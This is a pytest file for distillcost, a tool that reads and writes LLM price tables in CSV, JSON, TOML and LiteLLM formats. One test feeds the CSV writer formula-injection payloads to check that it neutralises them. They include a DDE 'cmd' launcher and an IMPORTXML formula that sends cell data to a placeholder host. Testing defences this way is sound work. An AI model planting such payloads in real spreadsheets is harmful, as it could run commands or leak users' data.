"""Readers and writers: TOML, CSV (spreadsheet-edited), JSON, LiteLLM's map, genai-prices.

Expected prices are written by hand next to each fixture (with the arithmetic
where a conversion happens), never produced by the reader under test.
"""

from __future__ import annotations

import csv
import io
import sys
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from distillcost.cells import cell_value as csv_safe
from distillcost.cells import quote_cell, unquote_cell
from distillcost.errors import NotAvailableError
from distillcost.present import UNDATED
from distillcost.prices import LongContextTier, ModelRecord, PriceEntry, load_price_file
from distillcost.prices.formats import parse_path
from distillcost.prices.formats.csv import parse_csv, records_csv_text, sheet_columns


def write(tmp_path: Path, name: str, text: str | bytes) -> Path:
    path = tmp_path / name
    if isinstance(text, bytes):
        path.write_bytes(text)
    else:
        path.write_text(text, encoding="utf-8")
    return path


# ---------------------------------------------------------------- CSV as a spreadsheet writes it


def test_csv_from_a_spreadsheet(tmp_path):
    # Excel habits: UTF-8 BOM, ';' separators (some locales), "$" prices, TRUE/FALSE,
    # blank rows, stray spaces; two rows with one date = one entry with two tiers.
    text = (
        "\ufeffid;provider;effective_from;input;output;source;encoding;verified;"
        "tier_above_prompt_tokens;tier_input;tier_output\n"
        " m1 ;acme;2024-01-01;$1.50;6;sheet;o200k_base;TRUE;;;\n"
        ";;;;;;;;;;\n"
        "m1;acme;2024-06-01;1;4;sheet;o200k_base;FALSE;128000;2;8\n"
        "m1;acme;2024-06-01;1;4;sheet;o200k_base;FALSE;200000;3;9\n"
    )
    (m,) = load_price_file(write(tmp_path, "s.csv", text))
    assert m.id == "m1" and m.provider == "acme"
    first, second = m.history
    assert (first.input, first.output, first.verified) == (Decimal("1.5"), Decimal("6"), True)
    assert second.verified is False
    assert second.tiers == (
        LongContextTier(128000, Decimal("2"), Decimal("8")),
        LongContextTier(200000, Decimal("3"), Decimal("9")),
    )


def test_csv_model_columns_must_agree_across_rows(tmp_path):
    text = (
        "id,provider,effective_from,input,output,source,encoding\n"
        "m,acme,2024-01-01,1,2,s,o200k_base\n"
        "m,acme,2024-06-01,1,2,s,cl100k_base\n"
    )
    result = parse_path(write(tmp_path, "x.csv", text))
    assert [str(p) for p in result.problems] == [
        f"{tmp_path / 'x.csv'}:3: model 'm': field 'encoding': differs from line 2 "
        "('o200k_base') for the same model; model-level columns must repeat the same value "
        "on every row"
    ]


# ---------------------------------------------------------------- CSV writer <-> reader


@settings(deadline=None)
@given(st.text(max_size=12))
def test_quote_then_csv_safe_then_unquote_is_the_identity(text):
    assert unquote_cell(csv_safe(quote_cell(text))) == text


HOSTILE = [
    '=HYPERLINK("http://evil.example","click")',
    "-2+3",
    "+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "<script>alert(1)</script>",
    "'=already-quoted",
    "plain-id",
]


def test_hostile_ids_are_neutralised_in_csv_and_read_back_exactly(tmp_path):
    day = date(2024, 1, 1)
    records = [
        ModelRecord(
            id=name,
            provider="evil",
            aliases=("=alias-too",) if i == 0 else (),
            history=(
                PriceEntry(
                    effective_from=day,
                    input=Decimal(1),
                    output=Decimal(2),
                    source='=IMPORTXML(CONCAT("http://x/?",A1),"//a")',
                    notes="<b>bold</b>",
                ),
            ),
        )
        for i, name in enumerate(HOSTILE)
    ]
    text = records_csv_text([(r, r.history[0]) for r in records])
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    # no cell a spreadsheet would evaluate
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["id"] == "'" + HOSTILE[0]
    assert rows[4]["id"] == "<script>alert(1)</script>"  # CSV is not HTML: kept verbatim
    assert rows[5]["id"] == "''=already-quoted"
    again = load_price_file(write(tmp_path, "h.csv", text))
    assert [m.id for m in again] == HOSTILE
    assert again[0].aliases == ("=alias-too",)
    assert again[0].history[0].source == records[0].history[0].source
    assert again[0].history[0].notes == "<b>bold</b>"


def test_csv_writer_columns_are_the_schema_columns():
    e = PriceEntry(effective_from=date(2024, 1, 1), input=Decimal("0.10"), output=Decimal(20))
    r = ModelRecord(id="m", provider="p", history=(e,))
    header, row = records_csv_text([(r, e)]).splitlines()
    assert header.split(",") == [*sheet_columns(), "row_checksum"]
    values = dict(zip([*sheet_columns(), "row_checksum"], row.split(","), strict=True))
    assert values["input"] == "0.1" and values["output"] == "20"  # exact, no exponent
    assert values["effective_from"] == "2024-01-01"


def _edit(text: str, model: str, column: str, value: str) -> str:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    at = rows[0].index(column)
    for row in rows[1:]:
        if row[0] == model:
            row[at] = value
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    return out.getvalue()


def test_a_csv_sheet_row_edited_by_hand_is_the_users_and_the_rest_keep_their_vouching():
    source = "https://example.com/prices (2024-01-01)"
    vouched = PriceEntry(
        effective_from=date(2024, 1, 1), input=Decimal(5), output=Decimal(15),
        source=source, verified=True, checked=date(2024, 2, 1),
    )  # fmt: skip
    pairs = [(ModelRecord(id=m, provider="p", history=(vouched,)), vouched) for m in ("a", "b")]
    written = records_csv_text(pairs)
    # read back unedited: every row keeps its flag, source and check date
    same = {r.id: r.history[0] for r in parse_csv(written, "sheet.csv", "file").records}
    assert all(e.verified and e.source == source for e in same.values())
    # a's input changed in a spreadsheet: a is the user's, b still vouched for
    edited = _edit(written, "a", "input", "4")
    got = {r.id: r.history[0] for r in parse_csv(edited, "sheet.csv", "file").records}
    assert got["a"].input == Decimal(4) and got["a"].verified is False
    assert got["a"].source == "edited by the user in sheet.csv" and got["a"].checked is None
    assert got["b"].verified is True and got["b"].source == source
    # a sheet written by hand (no row_checksum column) is taken as it says
    plain = _edit(written, "a", "input", "4").replace(",row_checksum", "")
    plain = "\n".join(line.rsplit(",", 1)[0] for line in plain.splitlines())
    hand = {r.id: r.history[0] for r in parse_csv(plain, "sheet.csv", "file").records}
    assert hand["a"].input == Decimal(4) and hand["a"].verified is True


# ---------------------------------------------------------------- JSON


def test_json_schema_file(tmp_path):
    text = (
        '{"meta": {"provider": "acme", "unit": "USD per 1K tokens"},\n'
        ' "models": [{"id": "j", "encoding": "cl100k_base", "released": "2023-03-01",\n'
        '   "prices": [{"effective_from": "2023-03-01", "input": 0.002, "output": "0.002",\n'
        '               "source": "post"}]}]}\n'
    )
    (m,) = load_price_file(write(tmp_path, "a.json", text))
    assert m.released == date(2023, 3, 1)
    assert m.history[0].input == Decimal("2")  # 0.002 per 1K x 1000, parsed without float


def test_json_list_of_rows_is_the_csv_form(tmp_path):
    text = (
        '[{"id": "r", "provider": "p", "effective_from": "2024-01-01", "input": 1,'
        ' "output": 2.5, "source": "s", "encoding": "o200k_base", "status": "available"}]'
    )
    (m,) = load_price_file(write(tmp_path, "rows.json", text))
    assert m.history[0].output == Decimal("2.5")


def test_json_duplicate_keys_are_reported_with_their_line(tmp_path):
    text = '{"meta": {"provider": "a"},\n "meta": {"provider": "b"}, "models": []}\n'
    result = parse_path(write(tmp_path, "d.json", text))
    assert [str(p) for p in result.problems] == [
        f"{tmp_path / 'd.json'}:2: field 'meta': duplicate key 'meta'"
    ]


# ---------------------------------------------------------------- LiteLLM's map

LITELLM = """\
{
  "sample_spec": {"input_cost_per_token": 0.0, "mode": "chat"},
  "acme-chat": {
    "litellm_provider": "acme",
    "mode": "chat",
    "input_cost_per_token": 1.5e-07,
    "output_cost_per_token": 6e-07,
    "cache_read_input_token_cost": 7.5e-08,
    "cache_creation_input_token_cost": 1.875e-07,
    "input_cost_per_token_batches": 7.5e-08,
    "output_cost_per_token_batches": 3e-07,
    "input_cost_per_token_above_200k_tokens": 3e-07,
    "output_cost_per_token_above_200k_tokens": 1.2e-06,
    "cache_read_input_token_cost_above_200k_tokens": 1.5e-08,
    "input_cost_per_token_above_128k_tokens": 2e-07,
    "output_cost_per_token_above_128k_tokens": 8e-07,
    "max_input_tokens": 1000000,
    "max_output_tokens": 8192,
    "deprecation_date": "2027-01-31",
    "supports_vision": true
  },
  "text-davinci-003": {
    "litellm_provider": "text-completion-openai",
    "mode": "completion",
    "input_cost_per_token": 0.00002,
    "output_cost_per_token": 0.00002
  },
  "acme-embed": {"litellm_provider": "acme", "mode": "embedding",
                 "input_cost_per_token": 1e-07, "output_cost_per_token": 0},
  "acme-image": {"litellm_provider": "acme", "mode": "image_generation",
                 "output_cost_per_image": 0.04},
  "acme-unpriced": {"litellm_provider": "acme", "mode": "chat", "max_input_tokens": 0}
}
"""


def test_litellm_map_is_detected_and_converted_exactly(tmp_path):
    path = write(tmp_path, "model_prices_and_context_window.json", LITELLM)
    result = parse_path(path)
    assert result.problems == []
    by_id = {m.id: m for m in result.records}
    assert set(by_id) == {"acme-chat", "text-davinci-003"}
    chat = by_id["acme-chat"]
    e = chat.history[0]
    # per token x 1,000,000: 1.5e-07 -> 0.15, 6e-07 -> 0.6, 7.5e-08 -> 0.075 ...
    assert (e.input, e.output) == (Decimal("0.15"), Decimal("0.6"))
    assert (e.cached_input, e.cache_write) == (Decimal("0.075"), Decimal("0.1875"))
    assert (e.batch_input, e.batch_output) == (Decimal("0.075"), Decimal("0.3"))
    assert e.tiers == (
        LongContextTier(128000, Decimal("0.2"), Decimal("0.8")),
        LongContextTier(200000, Decimal("0.3"), Decimal("1.2"), cached_input=Decimal("0.015")),
    )
    assert e.effective_from == UNDATED == date(1970, 1, 1)
    assert e.verified is False and e.source == str(path)
    assert (chat.context_window, chat.max_output_tokens) == (1000000, 8192)
    assert chat.retired == date(2027, 1, 31)
    assert chat.provider == "acme" and chat.tokenizer_approximate is True
    davinci = by_id["text-davinci-003"].history[0]
    assert davinci.input == Decimal("20")  # 0.00002 x 1e6: the right price, not LiteLLM-1.14's 2
    assert by_id["text-davinci-003"].encoding == "p50k_base"


def test_litellm_skipped_entries_are_counted_in_warnings(tmp_path):
    result = parse_path(write(tmp_path, "m.json", LITELLM))
    assert result.warnings == [
        f"{tmp_path / 'm.json'}: skipped 2 LiteLLM entries that are not chat models "
        "(embedding: 1, image_generation: 1)",
        f"{tmp_path / 'm.json'}: skipped 1 LiteLLM chat entry without input and output prices",
    ]


def test_litellm_service_tiers_free_cache_writes_and_inclusive_thresholds(tmp_path):
    text = """{
  "deepseek/deepseek-chat": {"litellm_provider": "deepseek", "mode": "chat",
    "input_cost_per_token": 2.8e-07, "output_cost_per_token": 4.2e-07,
    "cache_read_input_token_cost": 2.8e-08, "cache_creation_input_token_cost": 0.0},
  "gpt-x": {"litellm_provider": "openai", "mode": "chat",
    "input_cost_per_token": 2e-06, "output_cost_per_token": 8e-06,
    "input_cost_per_token_flex": 1e-06, "output_cost_per_token_flex": 4e-06,
    "input_cost_per_token_priority": 3.5e-06, "output_cost_per_token_priority": 1.4e-05,
    "cache_read_input_token_cost_priority": 8.75e-07},
  "xai/grok-x": {"litellm_provider": "xai", "mode": "chat",
    "input_cost_per_token": 1.25e-06, "output_cost_per_token": 2.5e-06,
    "input_cost_per_token_above_200k_tokens": 2.5e-06,
    "output_cost_per_token_above_200k_tokens": 5e-06},
  "gemini/gemini-x": {"litellm_provider": "gemini", "mode": "chat",
    "input_cost_per_token": 1.25e-06, "output_cost_per_token": 1e-05,
    "input_cost_per_token_above_200k_tokens": 2.5e-06}
}"""
    by_id = {m.id: m.history[0] for m in parse_path(write(tmp_path, "m.json", text)).records}
    # DeepSeek has no write charge: a 0 write price would bill a missed prefix as free
    assert by_id["deepseek/deepseek-chat"].cache_write is None
    tiers = {t.name: t for t in by_id["gpt-x"].service_tiers}
    assert (tiers["flex"].input, tiers["flex"].output) == (Decimal(1), Decimal(4))
    assert (tiers["priority"].input, tiers["priority"].output) == (Decimal("3.5"), Decimal(14))
    assert tiers["priority"].cached_input == Decimal("0.875")
    # LiteLLM's cost code bills xAI's "above_200k" tier from 200,000 prompt tokens (>=), and
    # everyone else's above 200,000 (>): distillcost's threshold is always "more than"
    assert by_id["xai/grok-x"].tiers[0].above_prompt_tokens == 199999
    assert by_id["gemini/gemini-x"].tiers[0].above_prompt_tokens == 200000


def test_litellm_bad_price_is_a_located_problem(tmp_path):
    text = '{\n  "m": {\n    "litellm_provider": "x",\n    "input_cost_per_token": -1e-06,\n'
    text += '    "output_cost_per_token": "lots"\n  }\n}\n'
    result = parse_path(write(tmp_path, "bad.json", text))
    assert [str(p) for p in result.problems] == [
        f"{tmp_path / 'bad.json'}:4: model 'm': field 'input_cost_per_token': "
        "negative price -0.000001; prices must be >= 0",
        f"{tmp_path / 'bad.json'}:5: model 'm': field 'output_cost_per_token': "
        "not a number: 'lots'",
    ]


# ---------------------------------------------------------------- genai-prices adapter


def test_genai_adapter_fails_clearly_when_the_package_is_absent(monkeypatch):
    monkeypatch.setitem(sys.modules, "genai_prices", None)  # makes the import fail
    with pytest.raises(NotAvailableError) as info:
        load_price_file("genai-prices")
    assert str(info.value) == (
        "the genai-prices package (a dependency of distillcost) is not installed; "
        "reinstall distillcost or run pip install genai-prices"
    )


def test_genai_adapter_converts_dated_prices_when_installed():
    records = {m.id: m for m in load_price_file("genai-prices:openai")}
    o3 = records["o3"]
    # genai-prices dates o3's price cut 2025-06-10 (10/40 -> 2/8, per the reference notes)
    before, after = o3.price_on(date(2025, 6, 9)), o3.price_on(date(2025, 6, 10))
    assert (before.input, before.output) == (Decimal("10"), Decimal("40"))
    assert (after.input, after.output) == (Decimal("2"), Decimal("8"))
    assert "o3-2025-04-16" in o3.aliases  # exact names only
    assert all(not e.verified for e in o3.history)


# ---------------------------------------------------------------- file-level failures


def test_non_utf8_and_binary_files(tmp_path):
    latin = parse_path(write(tmp_path, "l.csv", b"id,provider\nm,caf\xe9\n"))
    assert [str(p) for p in latin.problems] == [
        f"{tmp_path / 'l.csv'}:2: not UTF-8 text (byte 0xe9 at offset 17)"  # 12 + len("m,caf")
    ]
    binary = parse_path(write(tmp_path, "b.toml", b"\x00\x01\x02"))
    assert [str(p) for p in binary.problems] == [
        f"{tmp_path / 'b.toml'}: binary file, not a price table"
    ]


def test_unknown_extension(tmp_path):
    result = parse_path(write(tmp_path, "prices.ods", "x"))
    assert [str(p) for p in result.problems] == [
        f"{tmp_path / 'prices.ods'}: unknown price file type '.ods'; "
        "use .toml, .csv, .json or .xlsx"
    ]


def test_a_broken_xlsx_is_one_problem_not_a_traceback(tmp_path):
    result = parse_path(write(tmp_path, "prices.xlsx", "x"))
    assert [p.message for p in result.problems] == [
        "not a readable .xlsx workbook (BadZipFile: File is not a zip file)"
    ]


def test_an_entry_with_two_tiers_is_two_csv_rows_and_reads_back_whole(tmp_path):
    e = PriceEntry(
        effective_from=date(2025, 3, 25),
        input=Decimal("1.25"),
        output=Decimal("10"),
        tiers=(
            LongContextTier(128000, Decimal("2"), Decimal("12"), cached_input=Decimal("0.2")),
            LongContextTier(200000, Decimal("2.5"), Decimal("15")),
        ),
        source="s",
    )
    r = ModelRecord(id="g", provider="google", history=(e,), origin="x")
    text = records_csv_text([(r, e)])
    assert len(text.splitlines()) == 3  # header + one row per tier
    (again,) = load_price_file(write(tmp_path, "t.csv", text), origin="x")
    assert again == r


def test_csv_unit_column_converts_per_1k_prices(tmp_path):
    text = (
        "id,provider,effective_from,input,output,source,encoding,unit\n"
        "d,openai,2022-11-28,0.02,0.02,page,p50k_base,USD per 1K tokens\n"
        "d,openai,2023-06-01,0.015,0.02,page,p50k_base,USD per 1K tokens\n"
    )
    (m,) = load_price_file(write(tmp_path, "k.csv", text))
    assert [e.input for e in m.history] == [Decimal("20"), Decimal("15")]  # x 1000


def test_csv_rows_of_one_model_must_not_mix_units(tmp_path):
    text = (
        "id,provider,effective_from,input,output,source,encoding,unit\n"
        "d,openai,2022-11-28,0.02,0.02,page,p50k_base,USD per 1K tokens\n"
        "d,openai,2023-06-01,15,20,page,p50k_base,USD per 1M tokens\n"
    )
    result = parse_path(write(tmp_path, "mix.csv", text))
    assert [str(p) for p in result.problems] == [
        f"{tmp_path / 'mix.csv'}:2: model 'd': field 'unit': rows of one model mix units"
    ]
